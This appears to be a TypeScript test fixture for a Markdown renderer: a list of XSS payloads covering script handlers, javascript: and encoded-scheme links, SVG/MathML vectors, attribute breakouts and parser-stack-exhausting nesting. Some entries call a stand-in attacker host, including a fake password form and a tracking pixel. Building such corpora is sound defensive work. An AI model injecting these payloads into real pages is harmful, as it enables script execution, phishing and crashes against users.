/**
 * Known Markdown/HTML XSS payloads: raw HTML after inline raw-text tags (marked's raw-block
 * state), code spans, autolinks, links and reference links with javascript:/data:/vbscript:
 * and entity-encoded schemes, nested emphasis, comments, SVG/MathML, iframe, form, attribute
 * breakouts, nesting deeper than a recursive parser's stack. Used by the renderer's tests and
 * by the fuzz run's generated pages and model answers.
 */
const IMG = '<img src=x onerror=alert(1)';

export const XSS_CORPUS: string[] = [
  // the two reproductions of the issue
  `See \`\`<pre>\` \`${IMG}\` now`,
  `a <pre> b ${IMG} c`,
  // unclosed tags after an inline raw-text tag
  `a <textarea> b ${IMG} c`,
  `a <script> b ${IMG} c`,
  `a <style> b ${IMG} c`,
  `a <xmp> b ${IMG} c`,
  `a <title> b ${IMG} c`,
  `<pre>\n${IMG}>\n</pre>`,
  // raw HTML blocks and inline HTML
  '<script>alert(1)</script>',
  `${IMG}>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<a href="https://evil.example/" onclick="alert(1)">x</a>',
  'x <a href="https://evil.example/">unclosed',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  // HTML comments
  `<!-- ${IMG}> -->`,
  `<!--> ${IMG}> -->`,
  // attribute breakouts
  `<div title="</div>${IMG}>">`,
  '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  // code spans and code blocks
  `\`${IMG}>\``,
  '```\n<script>alert(1)</script>\n```',
  '```js"><img src=x onerror=alert(1)>\ncode\n```',
  `\`\`\` a \` ${IMG}> \`\``,
  // links, schemes, entity-encoded schemes
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#0000106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',
  `[${IMG}>](https://evil.example/)`,
  // autolinks
  '<javascript:alert(1)>',
  '<https://evil.example/phish>',
  '<evil@evil.example>',
  'www.evil.example/phish',
  'https://evil.example/phish',
  'write to evil@evil.example',
  'data:text/html,<script>alert(1)</script>',
  // reference links
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x][ref]\n\n[ref]: https://evil.example/ "title"',
  '[ref]\n\n[ref]: <data:text/html,x>',
  // images
  '![pixel](https://evil.example/pixel.png)',
  '![y](javascript:alert(1))',
  // nested emphasis, lists, quotes, headings, tables, task lists
  `**${IMG}>**`,
  '*a **b <svg onload=alert(1)> c** d*',
  '***[x](javascript:alert(1))***',
  `- [ ] ${IMG}>\n- [x] done`,
  `> ${IMG}>`,
  `# ${IMG}>`,
  `| a | b |\n|:--|--:|\n| ${IMG}> | [x](javascript:alert(1)) |`,
  // entity-encoded markup shows as text
  '&lt;img src=x onerror=alert(1)&gt; &#60;img src=x onerror=alert(1)&#62;',
  // nesting deeper than the Markdown parser's stack
  `${'>'.repeat(20_000)} ${IMG}>`,
  `${'- '.repeat(10_000)}${IMG}>`,
  `${'*'.repeat(10_000)}x${'*'.repeat(10_000)} ${IMG}>`,
];
